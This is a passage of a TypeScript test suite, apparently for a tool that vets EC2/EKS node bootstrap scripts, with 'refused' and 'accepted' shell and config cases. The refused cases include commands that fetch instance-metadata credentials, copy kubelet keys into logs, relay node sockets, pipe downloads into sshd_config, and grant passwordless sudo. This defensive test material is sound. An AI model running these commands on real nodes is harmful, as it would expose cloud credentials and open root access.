        reads: () => cwAgent(["/var/lib/kubelet/**"]),
        refused: /ship \/var\/lib\/kubelet/,
    },
    {
        name: "the CloudWatch agent shipping every file by a root glob",
        reads: () => cwAgent(["/**/*.token"]),
        refused: /ship \/\*\*/,
    },
    {
        name: "a squid proxy allowing the VPC without denying link-local",
        reads: () =>
            shell(
                "cat > /etc/squid/squid.conf <<'EOF'",
                "acl vpc src 10.0.0.0/8",
                "http_access allow vpc",
                "http_port 3128",
                "EOF",
            ),
        refused: /forward proxy that does not deny/,
    },
    // Accepted.
    { name: "puppet apply of a local manifest", reads: () => shell("puppet apply /etc/puppetlabs/code/node.pp") },
    { name: "chef-client in local mode", reads: () => shell("chef-client -z -o 'recipe[hardening]'") },
    { name: "salt-call --local", reads: () => shell("salt-call --local state.apply hardening") },
    { name: "tailscale up without SSH", reads: () => shell("tailscale up --auth-key=$KEY --advertise-tags=tag:node") },
    {
        name: "the CloudWatch agent shipping pod and node logs",
        reads: () => cwAgent(["/var/log/pods/*/*/*.log", "/var/log/messages", "/var/log/containers/*.log"]),
    },
    {
        name: "a squid proxy denying link-local destinations",
        reads: () =>
            shell(
                "cat > /etc/squid/squid.conf <<'EOF'",
                "acl linklocal dst 169.254.0.0/16",
                "http_access deny linklocal",
                "acl vpc src 10.0.0.0/8",
                "http_access allow vpc",
                "http_port 3128",
                "EOF",
            ),
    },
    {
        name: "the SSM agent enabled (no hybrid activation)",
        reads: () => shell("systemctl enable --now amazon-ssm-agent"),
    },
];

describeReads("root reads: round 28 neighbours (engine/rootReads.ts, userData.ts)", round28);

// Round 29: neighbours of redteam29-nsec.test.ts (node agents' configurations naming the node's credentials,
// nodeadm's baseRuntimeSpec).
const round29: ReadCase[] = [
    {
        name: "a Fluent Bit input tailing the kubelet's pki",
        reads: () =>
            shell(
                "cat > /etc/fluent-bit/inputs.conf <<'EOF'",
                "[INPUT]",
                "    Name tail",
                "    Path /var/lib/kubelet/pki/*.pem",
                "EOF",
            ),
        refused: /read the node's credentials/,
    },
    {
        name: "an OpenTelemetry filelog receiver including every file by a root glob",
        reads: () =>
            shell("cat > /etc/otelcol/config.yaml <<'EOF'", "receivers:", "  filelog:", "    include: [/**/*]", "EOF"),
        refused: /read the node's credentials/,
    },
    {
        name: "a baseRuntimeSpec with rlimits and capabilities",
        reads: () =>
            nodeConfig(
                "  containerd:",
                "    baseRuntimeSpec:",
                "      process:",
                "        rlimits: [{type: RLIMIT_NOFILE, soft: 1024, hard: 1024}]",
                "        capabilities: {bounding: [CAP_SYS_ADMIN]}",
            ),
        refused: /baseRuntimeSpec/,
    },
    // Accepted.
    {
        name: "crictl's configuration naming containerd's socket",
        reads: () =>
            shell("cat > /etc/crictl.yaml <<'EOF'", "runtime-endpoint: unix:///run/containerd/containerd.sock", "EOF"),
    },
    {
        name: "an OpenTelemetry filelog receiver on /var/log",
        reads: () =>
            shell(
                "cat > /etc/otelcol/config.yaml <<'EOF'",
                "receivers:",
                "  filelog:",
                "    include: [/var/log/messages, /var/log/pods/*/*/*.log]",
                "EOF",
            ),
    },
    {
        name: "a baseRuntimeSpec with rlimits only",
        reads: () =>
            nodeConfig(
                "  containerd:",
                "    baseRuntimeSpec:",
                "      process:",
                "        rlimits: [{type: RLIMIT_NOFILE, soft: 1048576, hard: 1048576}]",
            ),
    },
];

describeReads("root reads: round 29 neighbours (userData.ts)", round29);

// Round 29: neighbours of redteam29-node.test.ts (users other than root without NoNewPrivileges, sudoers, homes,
// edits of node configuration, PAM, configuration variables).
const round29b: ReadCase[] = [
    {
        name: "a User= unit without NoNewPrivileges running a script of /data through bash",
        reads: () =>
            file("/etc/systemd/system/v.service", "[Service]", "User=validator", "ExecStart=/bin/bash /data/v/run.sh"),
        refused: /\/data\/v\/run\.sh/,
    },
    {
        name: "a cloud-config user in wheel, then a unit running as it from /srv",
        reads: () =>
            cloudConfig(
                "users:",
                "  - name: ops",
                "    groups: [wheel]",
                "write_files:",
                "  - path: /etc/systemd/system/ops.service",
                "    content: |",
                "      [Service]",
                "      User=ops",
                "      NoNewPrivileges=yes",
                "      ExecStart=/usr/local/bin/tool --config /srv/ops/tool.conf",
            ),
        refused: /\/srv\/ops\/tool\.conf/,
    },
    {
        name: "sed on /etc/sudoers",
        reads: () => shell("sed -i 's/^# %wheel/%wheel/' /etc/sudoers"),
        refused: /edits \/etc\/sudoers/,
    },
    {
        name: "OPENSSL_CONF from /data for a root command",
        reads: () => script("OPENSSL_CONF=/data/ssl/openssl.cnf openssl version"),
        refused: /\/data\/ssl\/openssl\.cnf/,
    },
    // Accepted.
    {
        name: "a User= unit without NoNewPrivileges reading (not running) /data",
        reads: () =>
            file(
                "/etc/systemd/system/v.service",
                "[Service]",
                "User=validator",
                "ExecStart=/usr/local/bin/validator --ledger /data/validator/ledger",
            ),
    },
    {
        name: "a non-root cron job passing /data to a node program",
        reads: () => file("/etc/cron.d/snap", "*/10 * * * * validator /usr/local/bin/snapshot --dir /data/validator"),
    },
    {
        name: "sed hardening sshd_config (judged by what it sets)",
        reads: () => shell("sed -i 's/^#*PermitRootLogin.*/PermitRootLogin no/' /etc/ssh/sshd_config"),
    },
    {
        name: "a PAM file without pam_permit",
        reads: () => file("/etc/pam.d/sshd-extra", "auth required pam_faillock.so preauth"),
    },
];

describeReads("root reads: round 29 node neighbours (rootReads.ts, userData.ts)", round29b);

// Round 30: neighbours of redteam30-node.test.ts (sshd and kubelet environment files, socket relays, EC2 Instance
// Connect, bootstrap.sh's kubelet arguments, instance metadata by name).
const round30: ReadCase[] = [
    {
        name: "/etc/sysconfig/sshd OPTIONS turning password logins on",
        reads: () => shell("echo 'OPTIONS=\"-o PasswordAuthentication=yes\"' > /etc/sysconfig/sshd"),
        refused: /PasswordAuthentication/,
    },
    {
        name: "/etc/sysconfig/kubelet KUBELET_EXTRA_ARGS with --anonymous-auth=true",
        reads: () => shell("echo 'KUBELET_EXTRA_ARGS=\"--anonymous-auth=true\"' > /etc/sysconfig/kubelet"),
        refused: /anonymous-auth/,
    },
    {
        name: "ncat relaying the kubelet's pod-resources socket",
        reads: () => shell("ncat -lk 9999 -c 'ncat -U /var/lib/kubelet/pod-resources/kubelet.sock' &"),
        refused: /relays a socket/,
    },
    {
        name: "an Instance Connect RPM by file name",
        reads: () => shell("rpm -ivh /tmp/ec2-instance-connect-1.1-19.amzn2.noarch.rpm"),
        refused: /EC2 Instance Connect/,
    },
    // Accepted.
    {
        name: "/etc/sysconfig/sshd hardening options",
        reads: () =>
            shell("echo 'OPTIONS=\"-o PasswordAuthentication=no -o PermitRootLogin=no\"' > /etc/sysconfig/sshd"),
    },
    { name: "socat between two node ports", reads: () => shell("socat TCP-LISTEN:8443,fork TCP:127.0.0.1:9443 &") },
    {
        name: "bootstrap.sh with harmless kubelet arguments",
        reads: () => shell("/etc/eks/bootstrap.sh dev --kubelet-extra-args '--max-pods=58 --node-labels=tier=v'"),
    },
    { name: "the SSM agent package", reads: () => shell("dnf install -y amazon-ssm-agent") },
];

describeReads("root reads: round 30 node neighbours (userData.ts)", round30);

// Round 31: neighbours of redteam31-node/nsec.test.ts (positional parameters, parameter operations, substitutions,
// find over a data directory's parent, node secrets into /var/log, printed credentials, Docker on TCP, one filesystem
// at two mount points, bootstrap.sh's CA, cloud-config packages, nftables drops), both directions.
const round31: ReadCase[] = [
    // Refused.
    {
        name: 'sh -c running "$1"/run.sh with /srv/hooks as $1',
        reads: () => shell("sh -c 'bash \"$1\"/run.sh' sh /srv/hooks"),
        refused: /\/srv\/hooks/,
    },
    {
        name: 'bash -c sourcing "$@" with /data/env.sh',
        reads: () => shell("bash -c '. \"$@\"' bash /data/env.sh"),
        refused: /\/data\/env\.sh/,
    },
    {
        name: 'set -- /data/hooks, then bash "$1/run.sh"',
        reads: () => shell("set -- /data/hooks", 'bash "$1/run.sh"'),
        refused: /\/data\/hooks/,
    },
    {
        name: "${D#x} removing a prefix to reveal /data",
        reads: () => shell("D=x/data/run.sh", 'bash "${D#x}"'),
        refused: /\/data\/run\.sh/,
    },
    {
        name: "${D,,} lower-casing /DATA",
        reads: () => shell("D=/DATA/run.sh", 'bash "${D,,}"'),
        refused: /\/data\/run\.sh/,
    },
    {
        name: "${D/x/} removing a character",
        reads: () => shell("D=/dxata/run.sh", 'bash "${D/x/}"'),
        refused: /\/data\/run\.sh/,
    },
    {
        name: "${D:2} taking a substring",
        reads: () => shell("D=xx/srv/run.sh", "bash ${D:2}"),
        refused: /\/srv\/run\.sh/,
    },
    {
        name: "an array element naming /srv",
        reads: () => shell("A=(/srv/a.sh /tmp/b)", 'bash "${A[0]}"'),
        refused: /\/srv\/a\.sh/,
    },
    {
        name: "H=$(readlink -f /data/hooks) unquoted, then bash $H/x.sh",
        reads: () => shell("H=$(readlink -f /data/hooks)", "bash $H/x.sh"),
        refused: /\/data\/hooks/,
    },
    {
        name: "find /run -exec running what it finds (/run/spire below)",
        reads: () => shell("find /run -name hook -exec {} \\;"),
        refused: /\/run\/spire/,
    },
    {
        name: "the kubelet's kubeconfig copied into /var/log",
        reads: () => shell("cp /var/lib/kubelet/kubeconfig /var/log/kubeconfig.bak"),
        refused: /kubeconfig/,
    },
    {
        name: "a tar of the kubelet's pki written to /var/log",
        reads: () => shell("tar czf /var/log/kubelet-pki.tgz /var/lib/kubelet/pki"),
        refused: /\/var\/lib\/kubelet\/pki/,
    },
    {
        name: "instance-metadata role credentials printed",
        reads: () => shell("curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/node-role"),
        refused: /cloud-init-output/,
    },
    {
        name: "an ECR password teed to a root file (tee prints it too)",
        reads: () => shell("aws ecr get-login-password --region eu-west-1 | tee /root/ecr-password"),
        refused: /cloud-init-output/,
    },
    {
        name: "a unit running dockerd -H tcp with --tls only",
        reads: () =>
            shell(
                "cat > /etc/systemd/system/docker.service.d/tcp.conf <<'EOF'",
                "[Service]",
                "ExecStart=",
                "ExecStart=/usr/bin/dockerd -H tcp://0.0.0.0:2376 --tls --tlscert=/etc/docker/cert.pem",
                "EOF",
            ),
        refused: /dockerd serve its API/,
    },
    {
        name: "/etc/sysconfig/docker OPTIONS with -H tcp",
        reads: () => shell("echo 'OPTIONS=\"-H tcp://0.0.0.0:2375\"' > /etc/sysconfig/docker"),
        refused: /dockerd serve its API/,
    },
    {
        name: "a UUID in fstab at /srv and mounted again at /opt/tools",
        reads: () => shell("echo 'UUID=1f2e3d /srv xfs defaults 0 2' >> /etc/fstab", "mount UUID=1f2e3d /opt/tools"),
        refused: /\/opt\/tools/,
    },
    {
        name: "cloud-config mounts: LABEL=data at /data and at /var/lib/app",
        reads: () =>
            cloudConfig(
                "mounts:",
                "  - [LABEL=data, /data, xfs, defaults]",
                "  - [LABEL=data, /var/lib/app, xfs, defaults]",
            ),
        refused: /\/var\/lib\/app/,
    },
    {
        name: "mount -L data at /data and /dev/disk/by-label/data at /opt/x",
        reads: () => shell("mount -L data /data", "mount /dev/disk/by-label/data /opt/x"),
        refused: /\/opt\/x/,
    },
    {
        name: "bootstrap.sh --b64-cluster-ca= with two certificates",
        reads: () => shell(`/etc/eks/bootstrap.sh dev --b64-cluster-ca=${pem(2)}`),
        refused: /several CAs/,
    },
    {
        name: "cloud-config packages: [[ec2-instance-connect, version]]",
        reads: () => cloudConfig("packages:", "  - [ec2-instance-connect, 1.1-19.amzn2023]"),
        refused: /EC2 Instance Connect/,
    },
    // Accepted.
    {
        name: "an IMDSv2 token captured into a variable",
        reads: () =>
            shell(
                "TOKEN=$(curl -s -X PUT http://169.254.169.254/latest/api/token -H 'X-aws-ec2-metadata-token-ttl-seconds: 60')",
            ),
    },
    {
        name: "exported credentials captured by eval",
        reads: () => shell('eval "$(aws configure export-credentials --format env)"'),
    },
    {
        name: "an ECR password piped to docker login",
        reads: () =>
            shell(
                "aws ecr get-login-password --region eu-west-1 | docker login --username AWS --password-stdin 111111111111.dkr.ecr.eu-west-1.amazonaws.com",
            ),
    },
    {
        name: "find / -exec chmod u-s (CIS setuid clean-up)",
        reads: () => shell("find / -xdev -type f -perm -4000 -exec chmod u-s {} \\;"),
    },
    { name: "find / printing rpmnew files", reads: () => shell("find / -xdev -name '*.rpmnew' -print") },
    {
        name: 'set -euo pipefail and set -- a b, echo "$1"',
        reads: () => shell("set -euo pipefail", "set -- a b", 'echo "$1"'),
    },
    {
        name: "a kubelet config backed up beside itself",
        reads: () => shell("cp /etc/kubernetes/kubelet/config.json /etc/kubernetes/kubelet/config.json.orig"),
    },
    { name: "dockerd on its unix socket", reads: () => shell("dockerd -H unix:///var/run/docker.sock &") },
    {
        name: "dockerd on TCP with --tlsverify",
        reads: () =>
            shell(
                "dockerd -H tcp://0.0.0.0:2376 --tlsverify --tlscacert=/etc/docker/ca.pem --tlscert=/etc/docker/cert.pem --tlskey=/etc/docker/key.pem &",
            ),
    },
    {
        name: "daemon.json on the unix socket with journald logs",
        reads: () =>
            shell(
                'echo \'{"hosts": ["unix:///var/run/docker.sock"], "log-driver": "journald"}\' > /etc/docker/daemon.json',
            ),
    },
    {
        name: "one data volume at /data and another device at /var/lib/containerd",
        reads: () =>
            shell(
                "echo 'LABEL=data /data xfs defaults 0 2' >> /etc/fstab",
                "echo '/dev/nvme2n1 /var/lib/containerd xfs defaults 0 2' >> /etc/fstab",
            ),
    },
    {
        name: "tmpfs at /data/cache and at /run/app",
        reads: () => shell("mount -t tmpfs tmpfs /data/cache", "mount -t tmpfs tmpfs /run/app"),
    },
    {
        name: "an nft command dropping pods' IMDS traffic",
        reads: () => shell('nft add rule inet filter forward iifname "eni*" ip daddr 169.254.169.254 counter drop'),
    },
    {
        name: "bootstrap.sh --b64-cluster-ca= with one certificate",
        reads: () => shell(`/etc/eks/bootstrap.sh dev --b64-cluster-ca=${pem(1)}`),
    },
    {
        name: "cloud-config packages: [jq, [nvme-cli, 1.16]]",
        reads: () => cloudConfig("packages:", "  - jq", "  - [nvme-cli, '1.16']"),
    },
];

describeReads("root reads: round 31 node neighbours (rootReads.ts, shell.ts, userData.ts)", round31);

// Round 32: neighbours of redteam32-node/nsec.test.ts (tmpfiles.d writes and copies, dd of=, systemd-tmpfiles on
// stdin, xargs, printed credentials through pipes, tracing and the environment, digests of node files), both ways.
const tmpfilesLine = (line: string) => shell(`echo '${line}' > /etc/tmpfiles.d/x.conf`);
const round32: ReadCase[] = [
    // Refused.
    {
        name: "a tmpfiles w+ line appending a password login to sshd",
        reads: () => tmpfilesLine("w+ /etc/ssh/sshd_config - - - - PasswordAuthentication yes"),
        refused: /PasswordAuthentication|sshd/,
    },
    {
        name: "a tmpfiles f^ line writing sudoers from a credential",
        reads: () => tmpfilesLine("f^ /etc/sudoers.d/ops 0440 root root - ops-sudoers"),
        refused: /sudoers/,
    },
    {
        name: "a tmpfiles C line copying the kubelet kubeconfig into /var/log",
        reads: () => tmpfilesLine("C /var/log/kubeconfig - - - - /var/lib/kubelet/kubeconfig"),
        refused: /kubeconfig/,
    },
    {
        name: "a tmpfiles C line copying a pod's file to a node unit",
        reads: () => tmpfilesLine("C /etc/systemd/system/x.service - - - - /data/x.service"),
        refused: /\/data\/x\.service/,
    },
    {
        name: "printf | dd of= a sudoers drop-in",
        reads: () => shell("printf 'ops ALL=(ALL) NOPASSWD:ALL\\n' | dd of=/etc/sudoers.d/ops"),
        refused: /sudoers/,
    },
    {
        name: "curl | dd of= sshd_config (content unknown)",
        reads: () => shell("curl -s https://example.com/sshd | dd of=/etc/ssh/sshd_config"),
        refused: /sshd_config/,
    },
    {
        name: "dd if=/tmp/downloaded of=/etc/ssh/sshd_config",
        reads: () =>
            shell("curl -so /tmp/downloaded https://example.com/x", "dd if=/tmp/downloaded of=/etc/ssh/sshd_config"),
        refused: /sshd_config/,
    },
    {
        name: "a heredoc fed to dd of= an sshd drop-in",
        reads: () => shell("dd of=/etc/ssh/sshd_config.d/x.conf <<'EOF'", "PermitRootLogin yes", "EOF"),
        refused: /PermitRootLogin/,
    },
    {
        name: "a download piped to systemd-tmpfiles --create -",
        reads: () => shell("curl -s https://example.com/t.conf | systemd-tmpfiles --create -"),
        refused: /systemd-tmpfiles/,
    },
    {
        name: "printf of a data path piped to xargs bash",
        reads: () => shell("printf '%s\\n' /data/hook.sh | xargs bash"),
        refused: /\/data\/hook\.sh/,
    },
    {
        name: "IMDS credentials piped to base64",
        reads: () =>
            shell("curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/node-role | base64"),
        refused: /cloud-init-output/,
    },
    {
        name: "an ECR password captured under #!/bin/bash -x",
        reads: () =>
            userDataOpenings([{ text: "#!/bin/bash -x\npw=$(aws ecr get-login-password)\n", base64: false }]).map(
                o => o.what,
            ),
        refused: /cloud-init-output/,
    },
    {
        name: "set -o xtrace then a captured STS token",
        reads: () => shell("set -o xtrace", "t=$(aws sts get-session-token)"),
        refused: /cloud-init-output/,
    },
    {
        name: "credentials exported from a substitution, then printenv",
        reads: () =>
            shell(
                'export AWS_SECRET_ACCESS_KEY="$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/r | jq -r .SecretAccessKey)"',
                "printenv",
            ),
        refused: /environment it prints/,
    },
    {
        name: "cat of the kubelet's client key into /var/log",
        reads: () => shell("cat /var/lib/kubelet/pki/kubelet-client-current.pem > /var/log/k.pem"),
        refused: /kubelet-client-current/,
    },
    // Accepted.
    {
        name: "tmpfiles d and f lines inside data directories",
        reads: () => tmpfilesLine("f /data/validator/ready 0644 10001 10001 - ok"),
    },
    {
        name: "a tmpfiles f line writing an sshd hardening drop-in",
        reads: () => tmpfilesLine("f /etc/ssh/sshd_config.d/10-hard.conf 0600 root root - PasswordAuthentication no"),
    },
    {
        name: "tmpfiles d lines on stdin",
        reads: () =>
            shell(
                "printf 'd /run/spire 0755 root root -\\nd /data/validator 0750 10001 10001 -\\n' | systemd-tmpfiles --create -",
            ),
    },
    { name: "dd if=/dev/zero of=/swapfile", reads: () => shell("dd if=/dev/zero of=/swapfile bs=1M count=2048") },
    {
        name: "fallocate a reservation file in /data",
        reads: () => shell("fallocate -l 8G /data/validator/ledger.reserve"),
    },
    { name: "xargs mkdir of data paths", reads: () => shell("printf '%s\\n' /data/a /data/b | xargs -r mkdir -p") },
    {
        name: "waiting for the instance profile (the role listing, to /dev/null)",
        reads: () =>
            shell(
                "until curl -sf http://169.254.169.254/latest/meta-data/iam/security-credentials/ >/dev/null 2>&1; do sleep 2; done",
            ),
    },
    {
        name: "an ECR password piped to nerdctl login --password-stdin",
        reads: () =>
            shell(
                "aws ecr get-login-password | nerdctl login --username AWS --password-stdin 111111111111.dkr.ecr.eu-west-1.amazonaws.com",
            ),
    },
    {
        name: "a captured token without tracing, set +x after set -x",
        reads: () => shell("set -x", "set +x", "pw=$(aws ecr get-login-password)"),
    },
    { name: "env printed with no credentials in it", reads: () => shell("env | sort > /var/log/env.log") },
    {
        name: "sha256sum of the kubelet kubeconfig to /var/log",
        reads: () => shell("sha256sum /var/lib/kubelet/kubeconfig >> /var/log/node-bootstrap.log"),
    },
    {
        name: "the cluster CA copied into the trust store and into /var/log",
        reads: () =>
            shell(
                "cp /etc/kubernetes/pki/ca.crt /etc/pki/ca-trust/source/anchors/eks.crt",
                "cp /etc/kubernetes/pki/ca.crt /var/log/eks-ca.crt",
            ),
    },
    {
        name: "find / -exec rpm -qf (CIS SUID audit)",
        reads: () => shell("find / -xdev -type f -perm -4000 -exec rpm -qf {} \\; > /var/log/suid.log"),
    },
];

describeReads("root reads: round 32 node neighbours (rootReads.ts, userData.ts)", round32);

// Round 33: neighbours of redteam33-node/nsec.test.ts (copiers' option values, mke2fs -d, printf -v/read, substitution
// outputs, find in a data directory, systemd-tmpfiles filters, printed ECR tokens, brace groups, unset, for loops).
const round33: ReadCase[] = [
    // Refused.
    {
        name: "install --strip-program naming a data-directory program",
        reads: () => shell("install --strip-program=/srv/strip -s /opt/a /usr/local/bin/a"),
        refused: /\/srv\/strip/,
    },
    {
        name: "tar -I with the program as a separate word",
        reads: () => shell("tar -I /data/zstd -xf /opt/a.tar.zst -C /opt"),
        refused: /\/data\/zstd/,
    },
    {
        name: "rsync -e naming a data-directory program",
        reads: () => shell("rsync -a -e /srv/ssh host:/x/ /opt/x/"),
        refused: /\/srv\/ssh/,
    },
    {
        name: "curl -K a data-directory config",
        reads: () => shell("curl -K /data/curlrc -o /tmp/x https://example.com"),
        refused: /\/data\/curlrc/,
    },
    {
        name: "mkfs.ext4 -d from /srv",
        reads: () => shell("mkfs.ext4 -F -d /srv/rootfs /dev/nvme2n1"),
        refused: /\/srv\/rootfs/,
    },
    {
        name: "read PATH from a here-string naming /srv",
        reads: () => shell("read -r PATH <<< /srv/bin:/usr/bin"),
        refused: /\/srv\/bin/,
    },
    {
        name: "printf -v LD_PRELOAD naming /data",
        reads: () => shell("printf -v LD_PRELOAD %s /data/lib.so"),
        refused: /\/data\/lib\.so/,
    },
    {
        name: "H=$(dirname /data/hooks/x) then bash $H/run.sh",
        reads: () => shell("H=$(dirname /data/hooks/x)", "bash $H/run.sh"),
        refused: /\/data\/hooks/,
    },
    {
        name: "an ECR authorization token printed as text",
        reads: () =>
            shell("aws ecr get-authorization-token --output text --query 'authorizationData[0].authorizationToken'"),
        refused: /cloud-init-output/,
    },
    {
        name: "find /data -exec bash (not inert)",
        reads: () => shell("find /data -name '*.sh' -exec bash {} \\;"),
        refused: /\/data/,
    },
    {
        name: "a credential exported, another unset, then env",
        reads: () => shell('export T="$(aws ecr get-login-password)"', "unset OTHER", "env"),
        refused: /environment it prints/,
    },
    // Accepted.
    {
        name: "tar --exclude=/data of the root",
        reads: () => shell("tar --exclude=/data -czf /backup/root.tgz /opt/app"),
    },
    {
        name: "cd $(mktemp -d -p /var/tmp) then ./install",
        reads: () => shell("mkdir -p /data/x", 'cd "$(mktemp -d -p /var/tmp)"', "./aws/install --update"),
    },
    {
        name: "X=$(which jq); $X --version, in a script naming /data",
        reads: () => shell("mkdir -p /data/x", "X=$(which jq)", '"$X" --version'),
    },
    {
        name: "find /srv -type f -exec chown 10001 {} +",
        reads: () => shell("find /srv/app -type f -exec chown 10001 {} +"),
    },
    { name: "systemd-tmpfiles --create --prefix /srv", reads: () => shell("systemd-tmpfiles --create --prefix /srv") },
    {
        name: "root's docker config with credHelpers only",
        reads: () =>
            shell(
                `echo '{"credHelpers": {"111111111111.dkr.ecr.eu-west-1.amazonaws.com": "ecr-login"}}' > /root/.docker/config.json`,
            ),
    },
    {
        name: "{ set +x; } 2>/dev/null before a captured token",
        reads: () => shell("set -x", "{ set +x; } 2>/dev/null", "pw=$(aws ecr get-login-password)"),
    },
    {
        name: "a token exported, used, unset, then env",
        reads: () =>
            shell(
                'export T="$(aws ecr get-login-password)"',
                'ctr images pull --user "AWS:$T" x',
                "unset T",
                "env > /var/log/env.log",
            ),
    },
    {
        name: "proxy drop-ins for two services written in a for loop",
        reads: () =>
            shell(
                "for s in containerd kubelet; do",
                "mkdir -p /etc/systemd/system/$s.service.d",
                "cat > /etc/systemd/system/$s.service.d/http-proxy.conf <<'EOF'",
                "[Service]",
                'Environment="HTTPS_PROXY=http://proxy:3128"',
                "EOF",
                "done",
            ),
    },
];

describeReads("root reads: round 33 node neighbours (rootReads.ts, shell.ts, userData.ts)", round33);

// Round 34: neighbours of redteam34-node/nsec.test.ts (option-read files of inert commands, grep printing, runuser/sudo
// -u, uid-0 users, homes in data directories, unix:// sockets, non-root units on the node's network), both ways.
const unit = (...lines: string[]) => file("/etc/systemd/system/x.service", "[Service]", ...lines);
const round34: ReadCase[] = [
    // Refused.
    {
        name: "setfacl -M from a data file",
        reads: () => shell("setfacl -M /srv/acl.txt /var/lib/kubelet"),
        refused: /\/srv\/acl\.txt/,
    },
    {
        name: "logger --file= a data file",
        reads: () => shell("logger --file=/data/notes.log"),
        refused: /\/data\/notes\.log/,
    },
    {
        name: "grep printing a data file to a /var/log file",
        reads: () => shell("grep key /data/x.env > /var/log/x.log"),
        refused: /grep prints/,
    },
    {
        name: "usermod -u 0 then a unit as that user running /srv",
        reads: () =>
            shell(
                "usermod -o -u 0 ops",
                "cat > /etc/systemd/system/o.service <<'EOF'",
                "[Service]",
                "User=ops",
                "NoNewPrivileges=yes",
                "ExecStart=/usr/bin/prog --config /srv/app.conf",
                "EOF",
            ),
        refused: /\/srv\/app\.conf/,
    },
    {
        name: "useradd --home=/srv/ops (adduser spelling)",
        reads: () => shell("adduser --home=/srv/ops ops"),
        refused: /home \/srv\/ops/,
    },
    {
        name: "cloud-config user with homedir /mnt/ops",
        reads: () => cloudConfig("users:", "  - name: ops", "    homedir: /mnt/ops"),
        refused: /home \/mnt\/ops/,
    },
    {
        name: "containerd --address unix:///run/spire/containerd.sock",
        reads: () => shell("containerd --address unix:///run/spire/containerd.sock &"),
        refused: /\/run\/spire/,
    },
    {
        name: "a NoNewPrivileges unit on the node network executing from /data",
        reads: () => unit("User=nobody", "NoNewPrivileges=yes", "ExecStart=/data/bin/agent"),
        refused: /\/data\/bin\/agent/,
    },
    {
        name: "a NoNewPrivileges unit with IPAddressDeny of another range executing from /data",
        reads: () =>
            unit(
                "User=nobody",
                "NoNewPrivileges=yes",
                "IPAddressDeny=10.0.0.0/8",
                "ExecStart=/usr/bin/python3 /data/app.py",
            ),
        refused: /\/data\/app\.py/,
    },
    {
        name: "DECIDED: a NoNewPrivileges unit running python3 -m in a /data working directory",
        reads: () =>
            unit(
                "User=nobody",
                "NoNewPrivileges=yes",
                "WorkingDirectory=/data/www",
                "ExecStart=/usr/bin/python3 -m http.server",
            ),
        refused: /\/data\/www/,
    },
    // Accepted.
    { name: "setfacl -m on a data directory", reads: () => shell("setfacl -R -m u:10001:rwX /data/validator") },
    { name: "grep -q a data file", reads: () => shell("grep -q ready /data/validator/state || exit 1") },
    {
        name: "grep of a data file captured into a variable",
        reads: () => shell("V=$(grep -c x /data/validator/state)"),
    },
    {
        name: "runuser -u a service user with a /data argument",
        reads: () => shell("runuser -u validator -- /usr/local/bin/validator init --home /data/validator"),
    },
    {
        name: "useradd with a home outside the data directories",
        reads: () => shell("useradd --system --home-dir /var/lib/validator --shell /sbin/nologin validator"),
    },
    { name: "dockerd on its default unix socket", reads: () => shell("dockerd -H unix:///var/run/docker.sock &") },
    {
        name: "a NoNewPrivileges unit with IPAddressDeny=any executing from /data",
        reads: () => unit("User=nobody", "NoNewPrivileges=yes", "IPAddressDeny=any", "ExecStart=/data/bin/agent"),
    },
    {
        name: "a NoNewPrivileges unit with RestrictAddressFamilies=AF_UNIX executing from /data",
        reads: () =>
            unit("User=nobody", "NoNewPrivileges=yes", "RestrictAddressFamilies=AF_UNIX", "ExecStart=/data/bin/agent"),
    },
];

describeReads("root reads: round 34 node neighbours (rootReads.ts, userData.ts)", round34);

// Round 35: neighbours of redteam35-node/nsec.test.ts (root-equivalent groups, polkit, tc pedit, systemd network
// lists in order, per-line `+`, low-port capability, su -c, setpriv), both ways.
const round35: ReadCase[] = [
    // Refused.
    {
        name: "a confined unit with Group=docker executing from /data",
        reads: () =>
            unit(
                "User=v",
                "Group=docker",
                "NoNewPrivileges=yes",
                "PrivateNetwork=yes",
                "ExecStart=/usr/bin/prog --config /data/x.conf",
            ),
        refused: /\/data\/x\.conf/,
    },
    {
        name: "gpasswd -a v docker, then a confined unit reading /data",
        reads: () =>
            shell(
                "gpasswd -a v docker",
                "cat > /etc/systemd/system/o.service <<'EOF'",
                "[Service]",
                "User=v",
                "NoNewPrivileges=yes",
                "PrivateNetwork=yes",
                "ExecStart=/usr/bin/prog --config /srv/app.conf",
                "EOF",
            ),
        refused: /\/srv\/app\.conf/,
    },
    {
        name: "a polkit rule without an action check",
        reads: () =>
            shell(
                "cat > /etc/polkit-1/rules.d/10-all.rules <<'EOF'",
                'polkit.addRule(function(action, subject) { if (subject.user == "v") return polkit.Result.YES; });',
                "EOF",
            ),
        refused: /polkit rule/,
    },
    {
        name: "tc pedit munging the IPv6 hop limit",
        reads: () =>
            shell(
                "tc filter add dev eth0 ingress protocol ipv6 u32 match u32 0 0 action pedit ex munge ip6 hoplimit set 64",
            ),
        refused: /hop limit|TTL/i,
    },
    {
        name: "IPAddressDeny=any with IPAddressAllow=any",
        reads: () =>
            unit(
                "User=v",
                "NoNewPrivileges=yes",
                "IPAddressDeny=any",
                "IPAddressAllow=any",
                "ExecStart=/data/bin/agent",
            ),
        refused: /\/data\/bin\/agent/,
    },
    {
        name: "IPAddressDeny=any reset by an empty assignment",
        reads: () =>
            unit("User=v", "NoNewPrivileges=yes", "IPAddressDeny=any", "IPAddressDeny=", "ExecStart=/data/bin/agent"),
        refused: /\/data\/bin\/agent/,
    },
    {
        name: "su root -c reading /data",
        reads: () => shell("su root -c 'bash /data/run.sh'"),
        refused: /\/data\/run\.sh/,
    },
    {
        name: "AmbientCapabilities=CAP_SYS_ADMIN makes a unit root",
        reads: () =>
            unit(
                "User=v",
                "AmbientCapabilities=CAP_SYS_ADMIN",
                "NoNewPrivileges=yes",
                "PrivateNetwork=yes",
                "ExecStart=/usr/bin/prog --config /data/x.conf",
            ),
        refused: /\/data\/x\.conf/,
    },
    // Accepted.
    {
        name: "a polkit rule allowing only reboot",
        reads: () =>
            shell(
                "cat > /etc/polkit-1/rules.d/10-reboot.rules <<'EOF'",
                'polkit.addRule(function(action, subject) { if (action.id == "org.freedesktop.login1.reboot" && subject.isInGroup("ops")) return polkit.Result.YES; });',
                "EOF",
            ),
    },
    {
        name: "IPAddressDeny=0.0.0.0/0 ::/0 executing from /data",
        reads: () => unit("User=v", "NoNewPrivileges=yes", "IPAddressDeny=0.0.0.0/0 ::/0", "ExecStart=/data/bin/agent"),
    },
    {
        name: "a + ExecStartPre and a confined ExecStart naming /data",
        reads: () =>
            unit(
                "User=v",
